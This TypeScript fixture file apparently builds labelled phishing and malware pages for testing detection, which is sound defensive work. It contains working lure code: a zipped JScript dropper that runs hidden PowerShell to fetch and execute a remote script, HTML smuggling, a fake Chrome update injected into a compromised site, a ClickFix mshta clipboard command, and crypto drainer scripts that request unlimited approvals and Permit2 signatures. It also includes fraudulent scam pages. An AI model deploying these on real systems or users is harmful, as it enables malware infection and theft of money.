import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { page, msLogo, cookieBar, dataLayer, zip, pe, lnk, cfb, iso, fileRoute, jsRoute, jsonRoute, pngRoute } from '../parts/l-kit.js';

// Non-credential payloads from the same week: document lures, smuggling, fake updates, ClickFix, drainers, scams.

const invoiceZip = zip([{ name: 'Rechnung_2026_11_4471.js', data: `var s=WScript.CreateObject("WScript.Shell");var u="h"+"ttps://cdn-upd.files-dl-store.com/p/a.ps1";s.Run("powershell -w hidden -ep bypass -c \\"iex(New-Object Net.WebClient).DownloadString('"+u+"')\\"",0);` }]);
const smugIso = iso('INVOICE_DOCS', ['Statement_Nov.pdf.lnk', 'data.dll']);
const smugB64 = smugIso.toString('base64');

export const entries: Entry[] = [
{
  id: 'l-mal-doc-lure-zip-rechnung-de',
  label: 'malware',
  kind: 'doc-lure-archive',
  url: 'https://rechnungsportal.kundencenter-online24.de/download/?rg=2026-11-4471',
  routes: {
    'rechnungsportal.kundencenter-online24.de/download/': htmlRoute(page({
      lang: 'de',
      title: 'Rechnung 2026-11-4471 – Download',
      css: `body{margin:0;font-family:Arial;background:#f3f3f3}.c{max-width:520px;margin:70px auto;background:#fff;padding:30px;border-radius:6px;text-align:center}a.b{display:inline-block;margin-top:14px;background:#2d7d46;color:#fff;padding:11px 24px;text-decoration:none;border-radius:4px}`,
      body: `<div class="c"><div style="font-size:48px">&#128230;</div><h2>Ihre Rechnung wird vorbereitet…</h2><p>Der Download startet automatisch. Falls nicht, klicken Sie bitte auf den Button.</p><p style="font-size:13px;color:#666">Passwort für das Archiv: <b>4471</b></p><a class="b" id="dl" href="/download/Rechnung_2026_11_4471.zip">Rechnung herunterladen (ZIP, 2 KB)</a><p style="font-size:11px;color:#999;margin-top:24px">Kundencenter Online &middot; Impressum &middot; Datenschutz</p></div>
<script>setTimeout(function(){document.getElementById('dl').click()},1500)</script>`,
    })),
    'rechnungsportal.kundencenter-online24.de/download/Rechnung_2026_11_4471.zip': fileRoute(invoiceZip, 'application/zip', 'Rechnung_2026_11_4471.zip'),
  },
},
{
  id: 'l-mal-html-smuggling-iso-statement',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://statements.acct-secure-docs.com/view/Statement_Nov2026.html',
  routes: {
    'statements.acct-secure-docs.com/view/Statement_Nov2026.html': htmlRoute(page({
      title: 'Adobe Document Cloud',
      css: `body{margin:0;font-family:Arial;background:#e9e9e9}.c{max-width:440px;margin:90px auto;background:#fff;padding:30px;text-align:center;border-radius:6px}.sp{width:32px;height:32px;border:3px solid #eb1000;border-top-color:transparent;border-radius:50%;margin:16px auto;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}`,
      body: `<div class="c"><div style="color:#eb1000;font-weight:bold;font-size:20px">Adobe Acrobat</div><div class="sp"></div><p>Downloading <b>Statement_Nov2026.iso</b>…</p><p style="font-size:12px;color:#777">Open the downloaded file to view your secure statement.</p></div>
<script>
var d='${smugB64}';
function b2a(s){var r=atob(s),n=r.length,u=new Uint8Array(n);while(n--)u[n]=r.charCodeAt(n);return u}
var bl=new Blob([b2a(d)],{type:'application/octet-stream'}),a=document.createElement('a');
a.href=URL.createObjectURL(bl);a.download='Statement_Nov2026.iso';document.body.appendChild(a);
setTimeout(function(){a.click()},800);
</script>`,
    })),
  },
},
{
  id: 'l-mal-fake-chrome-update-compromised-site',
  label: 'malware',
  kind: 'fake-update',
  url: 'https://www.tischlerei-brunner-tirol.at/leistungen/kuechen/',
  routes: {
    'www.tischlerei-brunner-tirol.at/leistungen/kuechen/': htmlRoute(page({
      lang: 'de',
      title: 'Küchen nach Maß – Tischlerei Brunner',
      css: `body{margin:0;font-family:Georgia,serif;color:#333}nav{background:#3e2a1e;color:#fff;padding:16px 30px}nav a{color:#f3e6d8;margin-right:18px;text-decoration:none}.hero{background:#d9c5ae;padding:60px 30px}.c{max-width:900px;margin:0 auto;padding:30px}`,
      body: `<nav><b>Tischlerei Brunner</b> &nbsp; <a href="/">Start</a><a href="/leistungen/">Leistungen</a><a href="/referenzen/">Referenzen</a><a href="/kontakt/">Kontakt</a></nav><div class="hero"><h1>Küchen nach Maß</h1><p>Handwerk aus Tirol seit 1968</p></div><div class="c"><p>Ob Landhausküche oder moderne Grifflos-Küche: Wir planen und fertigen Ihre Küche in unserer eigenen Werkstatt in Schwaz. Massivholz aus heimischen Wäldern, Arbeitsplatten aus Naturstein oder Keramik.</p><p>Vereinbaren Sie einen Beratungstermin: +43 5242 6 71 90</p></div>
<footer style="background:#eee;padding:20px 30px;font-size:13px">© 2026 Tischlerei Brunner GmbH · Impressum · Datenschutz</footer>
<script src="/wp-content/plugins/wp-statistics-lite/assets/js/tracker.min.js?ver=6.4.2"></script>`,
    })),
    'www.tischlerei-brunner-tirol.at/wp-content/plugins/wp-statistics-lite/assets/js/tracker.min.js': jsRoute(`(function(){if(document.cookie.indexOf('_wpsl=1')>-1)return;document.cookie='_wpsl=1;path=/;max-age=86400';
if(!/Windows/.test(navigator.userAgent))return;
var f=document.createElement('iframe');f.style.cssText='position:fixed;inset:0;width:100%;height:100%;border:0;z-index:2147483647;background:#fff';f.src='/wp-content/plugins/wp-statistics-lite/assets/u.html';document.documentElement.appendChild(f)})();`),
    'www.tischlerei-brunner-tirol.at/wp-content/plugins/wp-statistics-lite/assets/u.html': htmlRoute(page({
      title: 'Chrome-Update',
      lang: 'de',
      css: `body{font-family:Segoe UI,Roboto,Arial;background:#fff;margin:0;text-align:center}.w{max-width:560px;margin:90px auto}.b{background:#1a73e8;color:#fff;border:0;padding:12px 28px;border-radius:4px;font-size:15px;text-decoration:none;display:inline-block}`,
      body: `<div class="w"><svg width="72" height="72" viewBox="0 0 48 48"><circle cx="24" cy="24" r="22" fill="#db4437"/><path d="M24 2a22 22 0 0 1 19 11H24z" fill="#db4437"/><circle cx="24" cy="24" r="9" fill="#fff"/><circle cx="24" cy="24" r="7" fill="#4285f4"/></svg><h1 style="font-weight:400">Ihr Browser ist veraltet</h1><p>Diese Website verwendet Funktionen, die in Ihrer Chrome-Version nicht verfügbar sind. Installieren Sie das neueste Update (Version 131.0.6778.86), um fortzufahren.</p><a class="b" href="/wp-content/plugins/wp-statistics-lite/assets/ChromeSetup.exe" download>Chrome aktualisieren</a><p style="font-size:12px;color:#777;margin-top:30px">Google LLC · Empfohlenes Update</p></div>`,
    })),
    'www.tischlerei-brunner-tirol.at/wp-content/plugins/wp-statistics-lite/assets/ChromeSetup.exe': fileRoute(pe({ strings: ['ChromeSetup', 'Google LLC', 'NetSupport Manager', 'client32.ini'] }), 'application/octet-stream', 'ChromeSetup.exe'),
  },
},
{
  id: 'l-mal-teams-update-msi-lure',
  label: 'malware',
  kind: 'fake-update',
  url: 'https://teams-meeting.join-conference-live.com/l/meetup-join/19%3ameeting_NzY4ZmU2',
  routes: {
    'teams-meeting.join-conference-live.com/l/meetup-join/19%3ameeting_NzY4ZmU2': htmlRoute(page({
      title: 'Join conversation',
      css: `body{margin:0;font-family:Segoe UI,Arial;background:#f5f5f5}.top{background:#464775;color:#fff;padding:10px 20px}.c{max-width:560px;margin:70px auto;background:#fff;padding:34px;text-align:center;border-radius:4px}.b{background:#5b5fc7;color:#fff;padding:10px 22px;border-radius:4px;text-decoration:none;display:inline-block;margin:6px}`,
      body: `<div class="top">Microsoft Teams</div><div class="c"><h2>Your Teams client needs an update to join this meeting</h2><p>The meeting organizer (Quarterly Business Review – Kestrel / Brightline) requires Teams version 25.11 or later. Install the update and the meeting will open automatically.</p><a class="b" href="/l/meetup-join/TeamsSetup_x64.msi">Download update</a><a class="b" style="background:#fff;color:#5b5fc7;border:1px solid #5b5fc7" href="#">Join on the web instead</a><p style="font-size:12px;color:#888">Web join is unavailable for this meeting due to organizer policy.</p></div>`,
    })),
    'teams-meeting.join-conference-live.com/l/meetup-join/TeamsSetup_x64.msi': fileRoute(cfb(['Microsoft Teams', 'TeamsSetup', 'CustomAction', 'powershell.exe -NoP -W Hidden', 'ScreenConnect.ClientService.exe']), 'application/x-msi', 'TeamsSetup_x64.msi'),
  },
},
{
  id: 'l-clickfix-doc-render-error-fr',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://partage.docs-cabinet-notarial.fr/dossier/acte-vente-2026.html',
  routes: {
    'partage.docs-cabinet-notarial.fr/dossier/acte-vente-2026.html': htmlRoute(page({
      lang: 'fr',
      title: 'Acte de vente – Aperçu',
      css: `body{margin:0;font-family:Segoe UI,Arial;background:#525659}.doc{width:640px;margin:30px auto;background:#fff;height:800px;filter:blur(3px)}.ov{position:fixed;inset:0;display:flex;align-items:center;justify-content:center}.bx{background:#fff;width:460px;border-radius:6px;box-shadow:0 10px 30px rgba(0,0,0,.4);padding:24px}.bx button{background:#0a66c2;color:#fff;border:0;padding:10px 18px;border-radius:4px}#how{display:none;font-size:14px;background:#f3f6fb;padding:12px;margin-top:12px}`,
      body: `<div class="doc"></div><div class="ov"><div class="bx"><h3 style="margin-top:0">&#9888; Erreur d'affichage du document</h3><p style="font-size:14px">L'extension de police « Word Online » n'est pas installée. Le document ne peut pas être affiché correctement.</p><button id="fx">Comment corriger</button>
<div id="how">1. Appuyez sur <b>Win + X</b> puis choisissez « Terminal Windows (admin) »<br>2. Collez avec <b>Ctrl + V</b><br>3. Appuyez sur <b>Entrée</b> puis actualisez la page.</div></div></div>
<script>document.getElementById('fx').onclick=function(){var c='mshta https://partage.docs-cabinet-notarial.fr/dossier/fonts/install.hta  # Installation police Word Online';navigator.clipboard.writeText(c).catch(function(){});document.getElementById('how').style.display='block';this.textContent='Copié !'}</script>`,
    })),
  },
},
{
  id: 'l-drainer-airdrop-claim-permit',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://claim.layerzen-airdrop.xyz/season2',
  routes: {
    'claim.layerzen-airdrop.xyz/season2': htmlRoute(page({
      title: 'LayerZen Season 2 Airdrop – Claim $ZEN',
      css: `body{margin:0;background:#0b0d12;color:#e6e8ee;font-family:Inter,Arial}.hd{display:flex;justify-content:space-between;padding:18px 30px}.c{max-width:520px;margin:60px auto;background:#151923;border-radius:16px;padding:32px;text-align:center}button{background:linear-gradient(90deg,#7c5cff,#00d1ff);border:0;color:#fff;padding:14px 30px;border-radius:12px;font-size:16px;font-weight:600}.t{font-size:13px;color:#8b93a7}`,
      body: `<div class="hd"><b>LayerZen</b><span>Docs &middot; Governance &middot; Bridge</span></div><div class="c"><h1>Season 2 Airdrop is live</h1><p>Eligible wallets can claim up to <b>4,200 $ZEN</b>. Unclaimed tokens will be returned to the treasury on Dec 3.</p><button id="cw">Connect Wallet</button><p class="t" id="st">Checking eligibility requires a wallet signature. No gas fees.</p></div>
<script src="/assets/claim.bundle.js"></script>`,
    })),
    'claim.layerzen-airdrop.xyz/assets/claim.bundle.js': jsRoute(`(function(){var R='0x7a3d9f11c2e5b84a0d1e6f39c4b7a2e8d5f06c13';
var TOK=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0x6B175474E89094C44Da98b954EedeAC495271d0F'];
async function go(){var eth=window.ethereum;if(!eth){document.getElementById('st').textContent='No wallet found. Open this page in MetaMask or Trust Wallet.';return}
var acc=(await eth.request({method:'eth_requestAccounts'}))[0];
var bal=await fetch('/api/portfolio?a='+acc).then(function(r){return r.json()});
for(var i=0;i<TOK.length;i++){var data='0x095ea7b3'+R.slice(2).padStart(64,'0')+'f'.repeat(64);
try{await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:TOK[i],data:data}]})}catch(e){}}
var dl=Math.floor(Date.now()/1000)+86400*30;
var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitSingle:[{name:'details',type:'PermitDetails'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitSingle',domain:{name:'Permit2',chainId:1,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},message:{details:{token:TOK[1],amount:'1461501637330902918203684832716283019655932542975',expiration:dl,nonce:0},spender:R,sigDeadline:dl}};
var sig=await eth.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(typed)]});
await fetch('/api/claim',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:acc,s:sig,b:bal})});
document.getElementById('st').textContent='Claim submitted! Tokens will arrive within 24h.'}
document.getElementById('cw').onclick=go})();`),
    'claim.layerzen-airdrop.xyz/api/portfolio': jsonRoute({ usd: 0, tokens: [] }),
  },
},
{
  id: 'l-drainer-nft-free-mint-seaport',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://mint.pixel-otters-club.io/',
  routes: {
    'mint.pixel-otters-club.io/': htmlRoute(page({
      title: 'Pixel Otters Club — Free Mint',
      css: `body{margin:0;background:#ffe9c7;font-family:"Press Start 2P",monospace,Arial;color:#2b1b0e;text-align:center}.c{max-width:520px;margin:60px auto;background:#fff;border:4px solid #2b1b0e;padding:28px}button{background:#ff6b35;border:4px solid #2b1b0e;padding:14px 24px;font-family:inherit;cursor:pointer}.bar{height:16px;border:3px solid #2b1b0e;margin:12px 0}.bar i{display:block;height:100%;width:87%;background:#3ec300}`,
      body: `<div class="c"><h1>PIXEL OTTERS</h1><p>5,555 hand-drawn otters. FREE MINT for holders &amp; allowlist.</p><div class="bar"><i></i></div><p>4,832 / 5,555 minted</p><button id="m">CONNECT &amp; MINT</button><p id="o" style="font-size:10px"></p></div>
<script>document.getElementById('m').onclick=async function(){if(!window.ethereum){o.textContent='Install a wallet to mint';return}var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];
var cols=await fetch('/api/nfts?owner='+a).then(function(r){return r.json()});
for(var c of cols.collections){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:c,data:'0xa22cb465000000000000000000000000'+'4e1f2a7c93d0b5e86a21c0d47fe93b2a6c5d8e91'+'0000000000000000000000000000000000000000000000000000000000000001'}]})}catch(e){}}
o.textContent='Mint pending… do not close this window.'}</script>`,
    })),
    'mint.pixel-otters-club.io/api/nfts': jsonRoute({ collections: ['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D', '0xED5AF388653567Af2F388E6224dC7C4b3241C544'] }),
  },
},
{
  id: 'l-scam-loyalty-reward-survey-shipping',
  label: 'scam',
  kind: 'reward-survey',
  url: 'https://rewards-center.kundenumfrage-2026.com/de/?c=lidl&s=sms',
  routes: {
    'rewards-center.kundenumfrage-2026.com/de/': htmlRoute(page({
      lang: 'de',
      title: 'Herzlichen Glückwunsch! Treueprämie',
      css: `body{margin:0;font-family:Arial;background:#f4f4f4}.c{max-width:480px;margin:0 auto;background:#fff;padding:20px}.q{display:none}.q.on{display:block}.q button{display:block;width:100%;padding:12px;margin:6px 0;border:1px solid #0050aa;background:#fff;color:#0050aa;font-size:15px}.bx{display:flex;gap:8px}.bx div{flex:1;height:80px;background:#fdd835;border:2px solid #c49000;text-align:center;line-height:80px;font-size:30px;cursor:pointer}.cm{font-size:12px;color:#555;border-top:1px solid #eee;padding-top:6px;margin-top:6px}`,
      body: `<div class="c"><p style="color:#c00;font-weight:bold">Nur heute, <span id="d"></span></p><h2>Herzlichen Glückwunsch! Sie wurden ausgewählt, an unserer Kundenumfrage teilzunehmen.</h2>
<div class="q on" id="q1"><p>1. Wie oft kaufen Sie bei uns ein?</p><button>Täglich</button><button>Wöchentlich</button><button>Selten</button></div>
<div class="q" id="q2"><p>2. Wie zufrieden sind Sie?</p><button>Sehr</button><button>Zufrieden</button><button>Nicht</button></div>
<div class="q" id="q3"><p>Wählen Sie eine Box! Sie haben 3 Versuche.</p><div class="bx"><div>?</div><div>?</div><div>?</div></div></div>
<div class="q" id="q4"><h3>&#127881; Sie haben einen Dyson V15 gewonnen!</h3><p>Zahlen Sie nur die Versandkosten von 2,00 €. Geben Sie Ihre Daten ein, um die Lieferung zu bestätigen.</p><a href="https://checkout.versand-gewinn.shop/pay?offer=dyson15" style="display:block;background:#2e7d32;color:#fff;padding:14px;text-align:center;text-decoration:none">JETZT ANFORDERN</a></div>
<div class="cm"><b>Sabine K.</b> Ich habe meinen Staubsauger schon bekommen!!! Danke</div><div class="cm"><b>Thomas W.</b> Dachte es ist Fake, aber es kam nach 4 Tagen an</div><div class="cm"><b>Monika R.</b> Super, mein Paket ist unterwegs &#128525;</div></div>
<script>document.getElementById('d').textContent=new Date().toLocaleDateString('de-DE');var n=1;document.querySelectorAll('.q button,.bx div').forEach(function(b){b.onclick=function(){document.getElementById('q'+n).classList.remove('on');n++;document.getElementById('q'+n).classList.add('on')}})</script>`,
    })),
  },
},
{
  id: 'l-scam-invest-es-celebrity-platform',
  label: 'scam',
  kind: 'investment-scam',
  url: 'https://noticias-economia-hoy.com/entrevista/broncano-revela-su-secreto.html',
  routes: {
    'noticias-economia-hoy.com/entrevista/broncano-revela-su-secreto.html': htmlRoute(page({
      lang: 'es',
      title: 'David Broncano revela cómo gana 28.000€ al mes: los bancos quieren prohibirlo',
      css: `body{margin:0;font-family:Georgia,serif;color:#222}header{background:#b00;color:#fff;padding:12px 24px;font-family:Arial}.a{max-width:720px;margin:20px auto;padding:0 16px;line-height:1.6}.fm{background:#f5f5f5;padding:20px;border:2px solid #b00;font-family:Arial}.fm input{width:100%;padding:10px;margin:5px 0}.fm button{width:100%;background:#0a0;color:#fff;border:0;padding:14px;font-size:17px}`,
      body: `<header>EL DIARIO ECONÓMICO &middot; Última hora</header><div class="a"><h1>El presentador revela en directo cómo gana 28.000€ al mes – el Banco de España quiere prohibirlo</h1><p><i>Actualizado 28/11/2026</i></p><p>Durante la entrevista, el presentador explicó que invierte con <b>Quantum Ai Pro</b>, una plataforma automatizada de trading con criptomonedas que “trabaja sola”. Con un depósito mínimo de <b>250 €</b>, los usuarios obtienen beneficios desde el primer día.</p><p>“Nunca pensé que fuera tan fácil”, dijo antes de que la cadena cortara la emisión.</p>
<div class="fm"><h3>Regístrate ahora – plazas limitadas hoy</h3><form action="https://noticias-economia-hoy.com/lead/submit.php" method="post"><input name="nombre" placeholder="Nombre"><input name="apellido" placeholder="Apellido"><input name="email" placeholder="Email"><input name="telefono" placeholder="+34 Teléfono"><button>EMPEZAR A GANAR</button></form><p style="font-size:11px">Un asesor personal le llamará en los próximos 15 minutos.</p></div>
<p>Comentarios (412)</p><p><b>Carmen López:</b> Llevo 3 semanas y ya he retirado 4.300€. ¡Increíble!</p></div>`,
    })),
  },
},
{
  id: 'l-scam-task-job-pt-whatsapp',
  label: 'scam',
  kind: 'task-scam',
  url: 'https://amz-parceiros-tarefas.com/pt/registo?convite=LR8821',
  routes: {
    'amz-parceiros-tarefas.com/pt/registo': htmlRoute(page({
      lang: 'pt',
      title: 'Parceiros Online – Ganhe a partir de casa',
      css: `body{margin:0;font-family:Arial;background:#f2f4f8}.c{max-width:420px;margin:0 auto;background:#fff;min-height:100vh;padding:20px}.b{background:#ff9900;color:#111;border:0;width:100%;padding:13px;font-weight:bold;border-radius:6px}.lv{display:flex;justify-content:space-between;border:1px solid #eee;padding:10px;margin:6px 0;border-radius:6px}input{width:100%;padding:11px;margin:5px 0;border:1px solid #ccd}`,
      body: `<div class="c"><h2>Trabalhe a partir de casa &#127968;</h2><p>Otimize produtos e ganhe comissões diárias. Ganhos de 80€ a 350€ por dia. Pagamentos em USDT.</p>
<div class="lv"><span>VIP1 – depósito 50 USDT</span><b>2,5% / tarefa</b></div><div class="lv"><span>VIP2 – depósito 500 USDT</span><b>4% / tarefa</b></div><div class="lv"><span>VIP3 – depósito 3000 USDT</span><b>6% / tarefa</b></div>
<form method="post" action="/pt/api/register"><input name="telefone" placeholder="Número de telemóvel (+351)"><input type="password" name="senha" placeholder="Palavra-passe"><input type="password" name="senha_levantamento" placeholder="Palavra-passe de levantamento"><input name="convite" value="LR8821"><button class="b">Registar e receber bónus de 20 USDT</button></form>
<p style="font-size:12px;color:#777">Dúvidas? Fale com a sua mentora no WhatsApp: +351 912 448 019</p></div>`,
    })),
  },
},
];
